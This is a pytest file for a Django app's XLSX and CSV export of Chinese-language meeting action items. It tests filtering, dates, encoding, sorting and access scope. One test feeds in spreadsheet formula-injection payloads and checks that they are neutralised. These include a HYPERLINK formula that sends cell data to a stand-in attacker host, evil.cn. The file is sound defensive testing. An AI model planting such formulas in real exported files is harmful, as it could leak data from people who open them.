"""Exports of 部门行动项 / 全部行动项: exactly the filtered rows, real dates, Chinese that Excel reads,
and no formula ever runs."""

import csv
import datetime
import io

import openpyxl
import pytest
import time_machine
from django.urls import reverse

from actions.exports import safe_text
from actions.models import DeadlineChange, Status
from tests.factories import MeetingFactory, UserFactory, make_action

SHANGHAI = datetime.timezone(datetime.timedelta(hours=8))
NOW = datetime.datetime(2026, 11, 22, 10, 0, tzinfo=SHANGHAI)
TODAY = NOW.date()
HEADERS = [
    "序号",
    "事项",
    "来源会议",
    "会议日期",
    "牵头",
    "配合",
    "完成时限",
    "状态",
    "进度",
    "是否逾期",
    "最近更新",
    "延期次数",
]
PAYLOADS = ['=HYPERLINK("http://evil.cn/?x="&A1,"点我")', "+1", "-1", "@SUM(A1:A2)", "\t=1+1", "\r=1+1"]


@pytest.fixture(autouse=True)
def _frozen():
    with time_machine.travel(NOW, tick=False):
        yield


def export(client, fmt, **params):
    return client.get(reverse("actions:export", args=[fmt]), params)


def workbook_rows(response):
    sheet = openpyxl.load_workbook(io.BytesIO(response.content)).active
    return sheet, list(sheet.iter_rows(values_only=True))


def csv_rows(response):
    return list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))


@pytest.fixture
def overdue_and_not(owner, outsider):
    meeting = MeetingFactory(
        title="市场部第12次周例会", starts_at=datetime.datetime(2026, 11, 2, 14, 0, tzinfo=SHANGHAI)
    )
    late = make_action(
        lead=owner, title="提交竞品分析", due_date=datetime.date(2026, 11, 12), meeting=meeting, progress=40
    )
    DeadlineChange.objects.create(
        action=late, new_due_date=TODAY, reason="等待数据", state=DeadlineChange.State.APPROVED
    )
    make_action(lead=owner, title="下周的事项", due_date=datetime.date(2026, 11, 28))
    make_action(lead=owner, title="已完成的事项", due_date=datetime.date(2026, 11, 1), status=Status.DONE)
    make_action(lead=outsider, title="研发部逾期事项", due_date=datetime.date(2026, 11, 1))
    return late


@pytest.mark.django_db
def test_xlsx_holds_exactly_the_filtered_rows_with_date_cells(client_for, chair, overdue_and_not):
    response = export(client_for(chair), "xlsx", overdue="on")
    assert response.status_code == 200
    assert response["Content-Type"].startswith("application/vnd.openxmlformats")
    assert (
        "filename*=utf-8''%E9%83%A8%E9%97%A8%E8%A1%8C%E5%8A%A8%E9%A1%B9-2026-11-22.xlsx"
        in (response["Content-Disposition"])
    )
    sheet, rows = workbook_rows(response)
    assert list(rows[0]) == HEADERS
    assert len(rows) == 2
    number, title, meeting, meeting_day, lead, support, due, status, progress, overdue, updated, count = rows[
        1
    ]
    assert (number, title, meeting, lead, status, overdue, count) == (
        1,
        "提交竞品分析",
        "市场部第12次周例会",
        "王芳",
        "未开始",
        "是",
        1,
    )
    assert meeting_day.date() == datetime.date(2026, 11, 2)
    assert due.date() == datetime.date(2026, 11, 12)
    assert progress == 40
    assert sheet["G2"].is_date and sheet["G2"].number_format == "yyyy-mm-dd"
    assert sheet.freeze_panes == "A2"
    assert sheet.auto_filter.ref == "A1:L2"
    assert sheet.column_dimensions["B"].width > sheet.column_dimensions["A"].width


@pytest.mark.django_db
def test_xlsx_holds_every_page(client_for, chair, owner):
    for n in range(120):
        make_action(lead=owner, title=f"事项{n}")
    _sheet, rows = workbook_rows(export(client_for(chair), "xlsx"))
    assert len(rows) == 121


@pytest.mark.django_db
def test_export_follows_the_list_sort(client_for, chair, owner):
    make_action(lead=owner, title="甲", due_date=datetime.date(2026, 12, 1))
    make_action(lead=owner, title="乙", due_date=datetime.date(2026, 12, 5))
    _sheet, rows = workbook_rows(export(client_for(chair), "xlsx", sort="-due_date"))
    assert [row[1] for row in rows[1:]] == ["乙", "甲"]


@pytest.mark.django_db
def test_csv_starts_with_a_bom_and_round_trips_chinese(client_for, chair, overdue_and_not):
    response = export(client_for(chair), "csv", overdue="on")
    assert response.content.startswith(b"\xef\xbb\xbf")
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert ".csv" in response["Content-Disposition"]
    rows = csv_rows(response)
    assert rows[0] == HEADERS
    assert rows[1][:4] == ["1", "提交竞品分析", "市场部第12次周例会", "2026-11-02"]
    assert rows[1][6] == "2026-11-12" and rows[1][8] == "40%" and rows[1][9] == "是"
    assert len(rows) == 2


@pytest.mark.django_db
@pytest.mark.parametrize("fmt", ["xlsx", "csv"])
def test_formula_payloads_are_neutralised(client_for, chair, owner, fmt):
    for n, payload in enumerate(PAYLOADS):
        make_action(
            lead=UserFactory(name=payload, department=owner.department),
            title=payload,
            meeting=MeetingFactory(title=payload),
            due_date=TODAY + datetime.timedelta(days=n),
        )
    response = export(client_for(chair), fmt)
    if fmt == "xlsx":
        sheet, rows = workbook_rows(response)
        cells = [cell for row in sheet.iter_rows(min_row=2) for cell in row[1:3] + row[4:5]]
        assert all(cell.data_type == "s" for cell in cells)
        texts = [cell.value for cell in cells]
    else:
        texts = [value for row in csv_rows(response)[1:] for value in (row[1], row[2], row[4])]
    assert len(texts) == 3 * len(PAYLOADS)
    assert all(text.startswith("'") for text in texts)


def test_safe_text_leaves_ordinary_text_alone():
    assert safe_text("提交方案") == "提交方案"
    assert safe_text("2026年=计划") == "2026年=计划"
    assert safe_text("=1+1") == "'=1+1"


@pytest.mark.django_db
def test_control_characters_do_not_break_the_xlsx(client_for, chair, owner):
    make_action(lead=owner, title="\x01=HYPERLINK(1)\x02整改")
    _sheet, rows = workbook_rows(export(client_for(chair), "xlsx"))
    assert rows[1][1] == "'=HYPERLINK(1)整改"


@pytest.mark.django_db
def test_export_has_the_same_scope_as_the_list(client_for, owner, chair):
    assert export(client_for(owner), "xlsx").status_code == 403
    assert export(client_for(chair), "xlsx", scope="all").status_code == 403


@pytest.mark.django_db
def test_staff_exports_the_organisation(client_for, owner, outsider):
    staff = UserFactory(is_staff=True)
    make_action(lead=owner, title="市场部事项")
    make_action(lead=outsider, title="研发部事项")
    response = export(client_for(staff), "csv", scope="all")
    assert sorted(row[1] for row in csv_rows(response)[1:]) == sorted(["市场部事项", "研发部事项"])
    assert "%E5%85%A8%E9%83%A8%E8%A1%8C%E5%8A%A8%E9%A1%B9" in response["Content-Disposition"]  # 全部行动项


@pytest.mark.django_db
def test_unknown_format_is_404(client_for, chair):
    assert export(client_for(chair), "pdf").status_code == 404


@pytest.mark.django_db
def test_malformed_filter_does_not_break_the_export(client_for, chair, owner):
    make_action(lead=owner, title="事项")
    response = export(client_for(chair), "csv", due_from="不是日期", stale_days="abc")
    assert response.status_code == 200
    assert len(csv_rows(response)) == 2
